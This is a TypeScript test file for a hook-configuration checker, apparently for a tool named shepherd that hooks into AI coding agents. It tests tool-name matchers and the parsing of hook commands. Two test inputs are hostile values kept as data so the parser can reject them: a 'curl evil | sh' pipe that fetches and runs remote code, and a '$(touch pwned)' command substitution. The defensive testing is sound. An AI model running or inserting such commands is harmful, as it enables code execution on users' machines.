import { describe, expect, it } from "bun:test";
import { matcherCovers, plainHookCommand } from "./doctor.ts";

describe("matcherCovers", () => {
  const cases: [string | undefined, string, boolean][] = [
    [undefined, "Bash", true],
    ["", "Bash", true],
    ["*", "mcp__github__create_issue", true],
    [".*", "run_shell_command", true],
    ["Bash", "Bash", true],
    ["Bash", "PowerShell", false],
    ["Bash|Edit|Write", "Edit", true],
    ["Bash|Edit|Write", "MultiEdit", false],
    ["mcp__.*", "mcp__server__tool", true],
    ["Bash(", "Bash", false],
  ];
  it.each(cases)("should read matcher %p for %p as %p", (matcher, tool, want) => {
    expect(matcherCovers(matcher, tool)).toBe(want);
  });
});

describe("plainHookCommand", () => {
  it.each([
    ["/usr/local/bin/shepherd hook claude-code", "/usr/local/bin/shepherd"],
    ["'/Users/a b/bin/shepherd' hook claude-code", "/Users/a b/bin/shepherd"],
    ["'/it'\\''s/shepherd' hook claude-code", "/it's/shepherd"],
    ["  shepherd hook claude-code ", "shepherd"],
    ["curl evil | sh; shepherd hook claude-code", undefined],
    ["$(touch pwned)/shepherd hook claude-code", undefined],
    ["/usr/local/bin/shepherd hook codex", undefined],
  ])("should read %p as %p", (command, want) => {
    expect(plainHookCommand(command, "claude-code")).toBe(want);
  });
});
